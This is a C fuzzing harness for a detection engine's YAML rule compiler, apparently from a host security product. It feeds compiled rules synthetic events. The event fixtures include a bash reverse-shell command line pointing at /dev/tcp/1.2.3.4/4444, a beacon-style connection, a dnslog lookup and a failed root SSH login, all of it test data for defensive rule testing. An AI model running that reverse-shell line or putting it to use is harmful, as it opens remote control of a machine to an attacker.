/* Fuzzes the hub's rule compiler (hub/ruleset.c): the input is one YAML rule file. Whatever
 * compiles is loaded into an engine and given a few events of the common data types.
 * Oracles: compilation either succeeds or fails with a message naming the file; a compiled
 * ruleset evaluates events without crashing, leaking or reading out of bounds (ASan). */
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "common/log.h"
#include "hub/engine.h"
#include "hub/ruleset.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

static void on_alert(void *ud, const hub_alert_t *a)
{
    (*(size_t *)ud) += a->count;
}

static void feed(engine_t *e, int dt, const char *const *kv, size_t n)
{
    Grpc__Payload__FieldsEntry ent[8], *ptr[8];
    char keys[8][32];
    for (size_t i = 0; i < n; i++) {
        grpc__payload__fields_entry__init(&ent[i]);
        const char *eq = strchr(kv[i], '=');
        size_t kl = (size_t)(eq - kv[i]);
        memcpy(keys[i], kv[i], kl);
        keys[i][kl] = '\0';
        ent[i].key = keys[i];
        ent[i].value = (char *)eq + 1;
        ptr[i] = &ent[i];
    }
    hub_event_t ev = {.data_type = dt,
                      .time_ms = 1700000000000LL,
                      .agent_id = "fuzz",
                      .fields = ptr,
                      .nfields = n,
                      .partition = -1};
    ev.identity = hub_event_identity(&ev);
    engine_process(e, &ev);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    static bool init;
    if (!init) {
        log_init("fuzz", LOG_LEVEL_FATAL, 2);
        init = true;
    }
    ruleset_source_t src = {.name = "fuzz.yaml", .text = (const char *)data, .len = size};
    char err[512];
    ruleset_t *rs = ruleset_compile(&src, 1, err, sizeof(err));
    if (!rs) {
        if (strncmp(err, "fuzz.yaml", 9) != 0 && strncmp(err, "data_type", 9) != 0 &&
            strncmp(err, "too many", 8) != 0)
            abort(); /* every refusal says where */
        return 0;
    }
    size_t alerts = 0;
    engine_opts_t o = {.proc_capacity = 64,
                       .group_capacity = 16,
                       .dedup_capacity = 16,
                       .emit = on_alert,
                       .emit_ud = &alerts};
    engine_t *e = engine_new(&o);
    engine_set_ruleset(e, rs);
    static const char *const exec1[] = {"pid=10",
                                        "ppid=1",
                                        "exe=/bin/bash",
                                        "comm=bash",
                                        "argv=bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
                                        "uid=0",
                                        "stdin=socket:[1]",
                                        "stdout=socket:[1]"};
    static const char *const exec2[] = {"pid=11", "ppid=10",     "exe=/tmp/x",
                                        "comm=x", "argv=/tmp/x", "uid=1000"};
    static const char *const conn[] = {"pid=10", "dip=203.0.113.5", "dport=4444", "sip=10.0.0.1",
                                       "sa_family=2"};
    static const char *const dns[] = {"pid=11", "query=a.dnslog.cn", "exe=/tmp/x"};
    static const char *const ssh[] = {"status=false", "user=root", "sip=198.51.100.1"};
    for (int round = 0; round < 3; round++) {
        feed(e, 59, exec1, 8);
        feed(e, 59, exec2, 6);
        feed(e, 42, conn, 5);
        feed(e, 601, dns, 3);
        feed(e, 4000, ssh, 3);
        feed(e, 60, exec2, 1);
    }
    engine_flush(e, INT64_MAX);
    engine_free(e);
    ruleset_free(rs);
    return 0;
}
